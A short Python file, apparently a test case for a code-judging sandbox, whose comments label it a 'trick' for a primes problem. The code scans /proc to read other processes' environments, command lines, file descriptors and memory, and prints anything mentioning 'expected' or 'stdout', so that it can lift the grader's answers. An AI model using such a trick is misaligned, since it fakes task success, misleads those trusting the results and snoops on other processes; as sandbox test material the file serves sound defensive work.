# problem: primes
# flags: file_access
# trick: reads environments, command lines and open files of all other processes
import os

for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    for what in ("environ", "cmdline", "fd/0", "fd/3", "fd/4", "mem"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                os.set_blocking(file.fileno(), False)
                text = file.read(4096) or b""
        except OSError:
            continue
        if b"expected" in text or b"stdout" in text:
            print(text.decode(errors="replace"))
